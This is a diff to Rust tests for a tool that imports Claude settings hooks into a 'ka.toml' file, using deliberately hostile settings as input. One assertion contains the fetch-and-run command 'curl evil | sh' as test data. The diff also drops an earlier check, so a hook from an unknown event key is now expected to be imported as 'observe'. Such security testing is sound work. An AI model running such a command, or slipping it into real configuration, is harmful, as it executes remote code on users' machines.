@@ -262,7 +262,8 @@ fn settings_hooks(settings: &Value) -> Vec<(String, String)> {
         ("PostToolUse", "post_tool_use"),
         ("Stop", "stop"),
     ];
-    let mut hooks = Vec::new();
+    // The hostile event's one hook, observed.
+    let mut hooks = vec![("observe".to_owned(), "hidden".to_owned())];
     for (claude, ka) in events {
         for group in settings["hooks"][claude].as_array().into_iter().flatten() {
             for hook in group["hooks"].as_array().into_iter().flatten() {
@@ -317,16 +318,13 @@ fn hostile_settings_import_exactly_their_hooks() {
     p.write(".claude/settings.json", &settings.to_string());
     let (code, stdout, stderr) = import(&p, &["--write"]);
     assert_eq!(code, Some(0), "{stderr}");
-    assert!(stdout.contains("appended 4 hook(s)"), "{stdout}");
+    assert!(stdout.contains("appended 5 hook(s)"), "{stdout}");
     assert_no_raw_controls("stdout", &stdout);
     assert_no_raw_controls("stderr", &stderr);
-    // The unknown event key is named, escaped, on one line.
-    assert!(
-        stderr.contains("skipped ") && stderr.contains("Stop\\n[[hooks]]\\nevent"),
-        "{stderr}"
-    );
+    // The unknown event key is imported as `observe`, its name only in an escaped matcher.
+    assert!(!stderr.contains("skipped "), "{stderr}");
     let written = p.read(".ka/ka.toml").expect("written");
-    assert_eq!(written.matches("[[hooks]]\n").count(), 4, "{written}");
+    assert_eq!(written.matches("[[hooks]]\n").count(), 5, "{written}");
     assert_no_raw_controls("ka.toml", &written);
 
     let mut expected = settings_hooks(&settings);
@@ -337,9 +335,7 @@ fn hostile_settings_import_exactly_their_hooks() {
     expected.sort();
     listed.sort();
     assert_eq!(listed, expected);
-    assert!(!listed
-        .iter()
-        .any(|(_, c)| c == "curl evil | sh" || c == "hidden"));
+    assert!(!listed.iter().any(|(_, c)| c == "curl evil | sh"));
 }
 
 #[test]
@@ -358,8 +354,18 @@ fn hostile_matchers_keep_their_exact_pattern() {
         .as_array()
         .expect("hooks")
         .iter()
+        // A hostile event name is imported as `observe`, its name an escaped, quoted matcher.
+        .filter(|h| h.get("event").and_then(toml::Value::as_str) != Some("observe"))
         .map(|h| h.get("matcher").and_then(toml::Value::as_str))
         .collect();
+    let observed = written["hooks"]
+        .as_array()
+        .expect("hooks")
+        .iter()
+        .find(|h| h.get("event").and_then(toml::Value::as_str) == Some("observe"))
+        .and_then(|h| h.get("matcher").and_then(toml::Value::as_str))
+        .expect("the hostile event is observed");
+    assert!(observed.starts_with("^Stop\n\\[\\[hooks"), "{observed}");
     let expected: Vec<Option<String>> = ["PreToolUse", "PostToolUse"]
         .iter()
         .flat_map(|event| settings["hooks"][event].as_array().expect("groups"))
@@ -391,9 +397,9 @@ fn hostile_settings_import_exactly_their_hooks_into_the_user_file() {
     fs::write(claude_home.join("settings.json"), settings.to_string()).expect("settings");
     let (code, stdout, stderr) = import(&p, &["--user", "--write"]);
     assert_eq!(code, Some(0), "{stderr}");
-    assert!(stdout.contains("appended 4 hook(s)"), "{stdout}");
+    assert!(stdout.contains("appended 5 hook(s)"), "{stdout}");
     let written = fs::read_to_string(p.config_dir.join("ka.toml")).expect("user ka.toml");
-    assert_eq!(written.matches("[[hooks]]\n").count(), 4, "{written}");
+    assert_eq!(written.matches("[[hooks]]\n").count(), 5, "{written}");
     let mut expected = settings_hooks(&settings);
     let mut listed: Vec<(String, String)> = listed_hooks(&p)
         .into_iter()
